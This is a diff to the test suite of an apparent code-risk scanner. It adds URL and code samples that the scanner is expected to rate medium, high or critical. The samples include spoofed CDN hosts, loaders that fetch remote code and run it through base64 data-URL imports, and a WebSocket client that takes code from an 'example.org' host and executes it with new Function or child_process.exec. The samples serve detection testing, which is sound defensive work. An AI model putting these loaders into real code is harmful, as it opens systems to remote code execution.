@@ -191,12 +191,13 @@ test('libraries from public collections, and counters of visits, are code that n
     'https://code.jquery.com/jquery-3.7.1.min.js', '//code.jquery.com/ui/1.13.2/jquery-ui.js', 'https://cdnjs.cloudflare.com/ajax/libs/vue/2.7.14/vue.min.js',
     'https://ajax.googleapis.com/ajax/libs/jquery/1.9.1/jquery.min.js', '//ajax.aspnetcdn.com/ajax/jquery/jquery-1.9.0.min.js',
     'https://maxcdn.bootstrapcdn.com/bootstrap/3.3.7/js/bootstrap.min.js',
+    'https://cdn.tailwindcss.com', 'https://cdn.tailwindcss.com?plugins=forms', 'https://cdn.tailwindcss.com/3.4.1',
     'https://www.google-analytics.com/analytics.js', 'https://www.googletagmanager.com/gtag/js?id=G-AB12CD',
   ]) assert.equal(page(address), 'medium', address);
   for (const address of [
     'https://code.jquery.com/jquery-latest.js', 'https://code.jquery.com.example.org/jquery-3.7.1.js', 'https://cdnjs.cloudflare.com/ajax/libs/vue/vue.js',
     'https://cdnjs.cloudflare.com@example.org/ajax/libs/vue/2.7.14/vue.js', 'https://unpkg.com/vue@3', 'https://cdn.jsdelivr.net/gh/somebody/a@1.0.0/a.js',
-    'https://www.googletagmanager.com/gtm.js?id=GTM-AB12CD', 'https://www.googletagmanager.com/gtag/js?id=GTM-AB12CD',
+    'https://cdn.tailwindcss.com.example.org', 'https://cdn.tailwindcss.com@example.org/a.js', 'https://www.googletagmanager.com/gtm.js?id=GTM-AB12CD', 'https://www.googletagmanager.com/gtag/js?id=GTM-AB12CD',
     'https://code.jquery.com/../x/1.2.3/../../evil-1.2.3.js?x', 'https://ajax.googleapis.com/ajax/services/1.2.3/x.js',
   ]) assert.equal(page(address), 'high', address);
   assert.equal(worst('const s = document.createElement("script"); s.src = "https://www.googletagmanager.com/gtag/js?id=" + id'), 'high');
@@ -372,4 +373,33 @@ test('a program in quotation marks, requests that are run, text for pages, what 
     'const grammar = require("fs").readFileSync(__dirname + "/a.js", "utf8"); eval(grammar)',
     copy('template.js', 'cp.spawn(process.execPath, [to])'), copy('LICENSE.txt', 'done(to)'),
   ]) assert.equal(worst(code), 'nothing', code);
+});
+
+test('text that is put into an address where it runs', () => {
+  const element = 'const s = document.createElement("script"); ';
+  for (const code of [
+    'export const compile = (code) => import(`data:text/javascript;charset=utf-8;base64,${Buffer.from(code).toString("base64")}`)',
+    `${element}s.src = "data:text/plain;base64," + btoa(source)`,
+  ]) assert.equal(worst(code), 'medium', code);
+  for (const code of [
+    'const hidden = names[0]; import("data:text/javascript;base64," + hidden)',
+    `${element}const code = await (await fetch(u)).text(); s.src = "data:text/plain;base64," + btoa(code)`,
+    'const code = await (await fetch(u)).text(); import("data:text/javascript;base64," + btoa(code))',
+    `${element}s.src = "data:text/plain;base64," + btoa(atob(x))`,
+  ]) assert.equal(worst(code), 'high', code);
+});
+
+test('what the server of its own page sends over a connection', () => {
+  const made = (host: string, before = ''): string => `${before}var host = ${host}; var ws = new WebSocket("ws" + "://" + host + ":" + process.env.PORT + "/"); ws.onmessage = function (event) { var data = JSON.parse(event.data); data.assets.forEach(function (asset) { apply(asset) }) }; function apply(asset) { new Function("require", asset.code) }`;
+  assert.equal(worst(made('process.env.HOST || location.hostname')), 'medium');
+  assert.equal(worst(made('location.hostname')), 'medium');
+  for (const code of [
+    made('name || location.hostname'),
+    made('"example.org" || location.hostname'),
+    made('location.hostname', 'globalThis.location = { hostname: "example.org" }; '),
+    made('location.hostname', 'var location = { hostname: "example.org" }; '),
+    made('location.hostname + ".example.org"'),
+    made('location.hostname').replace('":" + process', '".example.org:" + process'),
+  ]) assert.equal(worst(code), 'critical', code);
+  assert.equal(worst(made('location.hostname').replace('new Function("require", asset.code)', 'require("child_process").exec(asset.code)')), 'critical');
 });
